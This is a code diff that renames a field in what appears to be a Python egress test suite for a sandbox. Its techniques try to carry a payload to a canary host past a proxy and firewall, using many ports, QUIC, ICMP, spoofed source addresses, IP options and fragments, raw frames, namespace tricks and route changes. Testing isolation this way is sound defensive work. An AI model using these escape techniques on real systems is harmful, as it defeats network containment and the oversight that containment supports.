@@ -29,29 +29,29 @@ def payload(attack: Attack) -> bytes:
 def direct_tcp(attack: Attack) -> Iterator[Try]:
     """Open TCP connections to the internet past the proxy, at common and uncommon ports."""
     for port in (80, 443, 53, 123, 853, 1080, 3128, 5228, 8080, 8443, 65535):
-        yield attack.tries(f"port {port}", lambda port=port: tcp(attack.world.canary, port, payload(attack)))
-    yield attack.tries("by an IPv6 socket", lambda: tcp(f"::ffff:{attack.world.canary}", 443, payload(attack)))
+        yield attack.tries(f"port {port}", lambda port=port: tcp(attack.knowledge.canary, port, payload(attack)))
+    yield attack.tries("by an IPv6 socket", lambda: tcp(f"::ffff:{attack.knowledge.canary}", 443, payload(attack)))
 
 
 @technique(PLACES)
 def ports_of_mail_and_shells(attack: Attack) -> Iterator[Try]:
     """Open TCP connections to ports of SSH and mail (22, 25, 465, 587), which firewalls often treat separately."""
     for port in (22, 25, 465, 587):
-        yield attack.tries(f"port {port}", lambda port=port: tcp(attack.world.canary, port, payload(attack)))
+        yield attack.tries(f"port {port}", lambda port=port: tcp(attack.knowledge.canary, port, payload(attack)))
 
 
 @technique((*PLACES, PEER))
 def direct_udp(attack: Attack) -> Iterator[Try]:
     """Send UDP to the internet: DNS, NTP, IKE, WireGuard, STUN, and a high port."""
     for port in (53, 123, 500, 1194, 3478, 4500, 51820, 60000):
-        yield attack.tries(f"port {port}", lambda port=port: udp(attack.world.canary, port, payload(attack)))
+        yield attack.tries(f"port {port}", lambda port=port: udp(attack.knowledge.canary, port, payload(attack)))
 
 
 @technique((*PLACES, PEER))
 def quic(attack: Attack) -> Iterator[Try]:
     """Send a QUIC Initial of 1,200 bytes to UDP 443."""
     datagram = (QUIC_INITIAL + payload(attack)).ljust(1200, b"\0")
-    yield attack.tries("UDP 443", lambda: udp(attack.world.canary, 443, datagram))
+    yield attack.tries("UDP 443", lambda: udp(attack.knowledge.canary, 443, datagram))
 
 
 @technique(PLACES)
@@ -65,7 +65,7 @@ def ping(attack: Attack) -> Iterator[Try]:
 def _echo(attack: Attack, kind: int, ttl: int) -> str:
     with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as sock:
         sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, ttl)
-        sock.connect((attack.world.canary, 0))
+        sock.connect((attack.knowledge.canary, 0))
         sock.send(_icmp_echo(payload(attack)))
         end = time.monotonic() + PATIENCE / 2
         with contextlib.suppress(TimeoutError):
@@ -73,7 +73,7 @@ def _echo(attack: Attack, kind: int, ttl: int) -> str:
                 sock.settimeout(left)
                 packet, (source, _) = sock.recvfrom(1500)
                 # Until connect(), a raw socket also receives the firewall's ICMP errors for other techniques' packets.
-                if source == attack.world.canary:
+                if source == attack.knowledge.canary:
                     return f"answered {packet[-60:]!r}"
         return ""
 
@@ -94,7 +94,7 @@ def few_hops(attack: Attack) -> Iterator[Try]:
     """Send UDP with a low TTL, as traceroute does: its ICMP errors can show a packet that a firewall let pass."""
     for ttl in (1, 2, 3, 4):
         yield attack.tries(
-            f"TTL {ttl}", lambda ttl=ttl: udp(attack.world.canary, 33434 + ttl, payload(attack), ttl=ttl)
+            f"TTL {ttl}", lambda ttl=ttl: udp(attack.knowledge.canary, 33434 + ttl, payload(attack), ttl=ttl)
         )
 
 
@@ -104,12 +104,12 @@ def source_ports(attack: Attack) -> Iterator[Try]:
     for port in (20, 53, 67, 80, 443, 8080, 8082):
         yield attack.tries(
             f"TCP from {port}",
-            lambda port=port: tcp(attack.world.canary, 443, payload(attack), source_port=port),
+            lambda port=port: tcp(attack.knowledge.canary, 443, payload(attack), source_port=port),
         )
     for port in (53, 67, 123):
         yield attack.tries(
             f"UDP from {port}",
-            lambda port=port: udp(attack.world.canary, 53, payload(attack), source_port=port),
+            lambda port=port: udp(attack.knowledge.canary, 53, payload(attack), source_port=port),
         )
 
 
@@ -124,7 +124,7 @@ def _raw(attack: Attack, protocol: int, data: bytes, options: bytes = b"") -> st
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as sock:
         if options:
             sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, options)
-        sock.sendto(data, (attack.world.canary, 0))
+        sock.sendto(data, (attack.knowledge.canary, 0))
     return ""  # No response is expected; the canary's log shows arrivals.
 
 
@@ -133,7 +133,7 @@ def ip_options_and_fragments(attack: Attack) -> Iterator[Try]:
     """Send datagrams with source-route options, and fragments of which the first has no complete header."""
     udp_datagram = struct.pack("!HHHH", 40000, 53, 8 + len(payload(attack)), 0) + payload(attack)
     record_route = b"\x07\x0b\x04" + bytes(8) + b"\x01"
-    loose_route = b"\x83\x07\x04" + socket.inet_aton(attack.world.canary) + b"\x01"
+    loose_route = b"\x83\x07\x04" + socket.inet_aton(attack.knowledge.canary) + b"\x01"
     for name, options in (("record route", record_route), ("loose source route", loose_route)):
         yield attack.tries(name, lambda options=options: _raw(attack, socket.IPPROTO_UDP, udp_datagram, options))
     yield attack.tries("fragments", lambda: _fragments(attack, udp_datagram))
@@ -144,12 +144,12 @@ def _fragments(attack: Attack, datagram: bytes) -> str:
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
         # 0x2000: more fragments follow; the offset counts in units of eight bytes.
         for piece, flags in ((rest, 0x0001), (first, 0x2000)):
-            sock.sendto(_ip_head(attack, len(piece), flags) + piece, (attack.world.canary, 0))
+            sock.sendto(_ip_head(attack, len(piece), flags) + piece, (attack.knowledge.canary, 0))
     return ""
 
 
 def _ip_head(attack: Attack, length: int, flags: int, source: str = "0.0.0.0") -> bytes:
-    addresses = socket.inet_aton(source) + socket.inet_aton(attack.world.canary)
+    addresses = socket.inet_aton(source) + socket.inet_aton(attack.knowledge.canary)
     return struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 4711, flags, 64, socket.IPPROTO_UDP, 0) + addresses
 
 
@@ -157,14 +157,14 @@ def _ip_head(attack: Attack, length: int, flags: int, source: str = "0.0.0.0") -
 def borrowed_source_addresses(attack: Attack) -> Iterator[Try]:
     """Send packets with the source address of the proxy, the gateway, another class or the host."""
     datagram = struct.pack("!HHHH", 40000, 53, 8 + len(payload(attack)), 0) + payload(attack)
-    for source in (attack.world.proxy[0], *attack.world.hosts[:6]):
+    for source in (attack.knowledge.proxy[0], *attack.knowledge.hosts[:6]):
         if ":" not in source:
             yield attack.tries(source, lambda source=source: _borrowed(attack, datagram, source))
 
 
 def _borrowed(attack: Attack, datagram: bytes, source: str) -> str:
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
-        sock.sendto(_ip_head(attack, len(datagram), 0, source) + datagram, (attack.world.canary, 0))
+        sock.sendto(_ip_head(attack, len(datagram), 0, source) + datagram, (attack.knowledge.canary, 0))
     return ""
 
 
@@ -172,7 +172,7 @@ def _borrowed(attack: Attack, datagram: bytes, source: str) -> str:
 def frames(attack: Attack) -> Iterator[Try]:
     """Send raw Ethernet frames to broadcast and to each neighbour, past routes and the kernel's firewall rules."""
     datagram = struct.pack("!HHHH", 40000, 53, 8 + len(payload(attack)), 0) + payload(attack)
-    packet = _ip_head(attack, len(datagram), 0, attack.world.proxy[0]) + datagram
+    packet = _ip_head(attack, len(datagram), 0, attack.knowledge.proxy[0]) + datagram
     # Columns: address, type, flags, hardware address, mask, device (proc_net(5)).
     known = [line.split() for line in Path("/proc/net/arp").read_text().splitlines()[1:]]
     targets = {(name, "ff:ff:ff:ff:ff:ff") for _, name in socket.if_nameindex() if name != "lo"}
@@ -204,7 +204,7 @@ def other_transports(attack: Attack) -> Iterator[Try]:
 def _transport(attack: Attack, kind: int, protocol: int) -> str:
     with socket.socket(socket.AF_INET, kind, protocol) as sock:
         sock.settimeout(PATIENCE)
-        sock.connect((attack.world.canary, 443))
+        sock.connect((attack.knowledge.canary, 443))
         sock.send(payload(attack))
         return f"answered {sock.recv(80)!r}"
 
@@ -212,14 +212,14 @@ def _transport(attack: Attack, kind: int, protocol: int) -> str:
 def _fast_open(attack: Attack) -> str:
     with socket.socket() as sock:
         sock.settimeout(PATIENCE)
-        sock.sendto(payload(attack), socket.MSG_FASTOPEN, (attack.world.canary, 443))
+        sock.sendto(payload(attack), socket.MSG_FASTOPEN, (attack.knowledge.canary, 443))
         return f"connected, {sock.recv(80)!r}"
 
 
 @technique(PLACES)
 def ipv6(attack: Attack) -> Iterator[Try]:
     """Send TCP, UDP and ICMP echo to the internet over IPv6."""
-    target = attack.world.canary6 or "2606:4700:4700::1111"
+    target = attack.knowledge.canary6 or "2606:4700:4700::1111"
     yield attack.tries("TCP 443", lambda: tcp(target, 443, payload(attack)))
     yield attack.tries("UDP 53", lambda: udp(target, 53, payload(attack)))
 
@@ -296,7 +296,7 @@ def _in_http(address: Address, path: str = "/") -> tuple[str, Callable[[], str]]
 @technique()
 def other_classes_listeners(attack: Attack) -> Iterator[Try]:
     """Connect to the proxy's listeners for other classes."""
-    for address in attack.world.listeners:
+    for address in attack.knowledge.listeners:
         yield attack.tries(*_in_http(address))
 
 
@@ -304,7 +304,7 @@ def other_classes_listeners(attack: Attack) -> Iterator[Try]:
 def listeners_from_a_network_of_our_own(attack: Attack) -> Iterator[Try]:
     """Connect to every listener of the proxy from an unknown address, and expect no response at all."""
     get = f"GET http://{attack.token}.example.com/ HTTP/1.1\r\nHost: {attack.token}.example.com\r\n\r\n"
-    for address in attack.world.listeners:
+    for address in attack.knowledge.listeners:
         yield attack.tries(f"{address}", lambda address=address: _answered(address, get.encode()))
 
 
@@ -316,7 +316,7 @@ def _answered(address: Address, data: bytes) -> str:
 @technique((*PLACES, PEER))
 def health_and_metrics(attack: Attack) -> Iterator[Try]:
     """Request the proxy's own /healthz, /readyz and /metrics."""
-    for address in attack.world.health:
+    for address in attack.knowledge.health:
         yield attack.tries(*_in_http(address, "/metrics"))
 
 
@@ -328,7 +328,7 @@ def addresses_of_hosts(attack: Attack) -> Iterator[Try]:
 
 def _ports(attack: Attack, ports: tuple[int, ...]) -> Iterator[Try]:
     """Yield an HTTP request to each port of every host."""
-    yield from attack.side_by_side(_in_http((host, port)) for host in attack.world.hosts for port in ports)
+    yield from attack.side_by_side(_in_http((host, port)) for host in attack.knowledge.hosts for port in ports)
 
 
 @technique((*ENFORCED, PEER))
@@ -340,10 +340,10 @@ def docker_over_tcp(attack: Attack) -> Iterator[Try]:
 @technique(PLACES)
 def hosts_answer_pings(attack: Attack) -> Iterator[Try]:
     """Ping the gateway, VPS-1, VPS-2 and the proxy: an echo response carries data."""
-    if attack.world.place == "gateway":
-        hosts = tuple(host for host in attack.world.hosts if host.startswith("10."))
+    if attack.knowledge.place == "gateway":
+        hosts = tuple(host for host in attack.knowledge.hosts if host.startswith("10."))
     else:
-        hosts = (attack.world.proxy[0], *attack.world.hosts)
+        hosts = (attack.knowledge.proxy[0], *attack.knowledge.hosts)
     for host in hosts:
         yield attack.tries(host, lambda host=host: _ping(attack, host))
 
@@ -361,7 +361,7 @@ def _ping(attack: Attack, host: str) -> str:
 @technique((*ENFORCED, PEER))
 def containers_of_other_classes(attack: Attack) -> Iterator[Try]:
     """Connect to services in containers of other classes, such as a browser's CDP port."""
-    for address in attack.world.neighbours:
+    for address in attack.knowledge.neighbours:
         yield attack.tries(*_in_http(address))
     yield Try("every one of them")
 
@@ -386,10 +386,13 @@ def metadata_services(attack: Attack) -> Iterator[Try]:
 def new_namespaces(attack: Attack) -> Iterator[Try]:
     """Create a user namespace and a network namespace, in which an ordinary user has root's capabilities."""
     user, network = os.CLONE_NEWUSER, os.CLONE_NEWNET
-    yield attack.tries("network", lambda: _unshared(network, lambda: tcp(attack.world.canary, 443, payload(attack))))
+    yield attack.tries(
+        "network", lambda: _unshared(network, lambda: tcp(attack.knowledge.canary, 443, payload(attack)))
+    )
     yield attack.tries("user", lambda: _unshared(user, lambda: _raw(attack, 47, payload(attack))))
     yield attack.tries(
-        "user and network", lambda: _unshared(user | network, lambda: tcp(attack.world.canary, 443, payload(attack)))
+        "user and network",
+        lambda: _unshared(user | network, lambda: tcp(attack.knowledge.canary, 443, payload(attack))),
     )
 
 
@@ -411,13 +414,13 @@ def _enter(attack: Attack, path: Path, own: Path) -> str:
         return ""
     with path.open() as namespace:
         os.setns(namespace.fileno(), os.CLONE_NEWNET)
-    return "entered: " + tcp(attack.world.canary, 443, payload(attack))
+    return "entered: " + tcp(attack.knowledge.canary, 443, payload(attack))
 
 
 @technique(ENFORCED)
 def rerouting(attack: Attack) -> Iterator[Try]:
     """Set another default route and firewall rules, which require CAP_NET_ADMIN."""
-    for gateway in (attack.world.proxy[0], *attack.world.hosts[:4]):
+    for gateway in (attack.knowledge.proxy[0], *attack.knowledge.hosts[:4]):
         if ":" not in gateway:
             yield attack.tries(f"via {gateway}", lambda gateway=gateway: _route(attack, gateway))
 
@@ -431,6 +434,6 @@ def _route(attack: Attack, gateway: str) -> str:
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
         fcntl.ioctl(sock, 0x890B, entry.ljust(120, b"\0"))
         try:
-            return "the route was set: " + tcp(attack.world.canary, 443, payload(attack))
+            return "the route was set: " + tcp(attack.knowledge.canary, 443, payload(attack))
         finally:
             fcntl.ioctl(sock, 0x890C, entry.ljust(120, b"\0"))
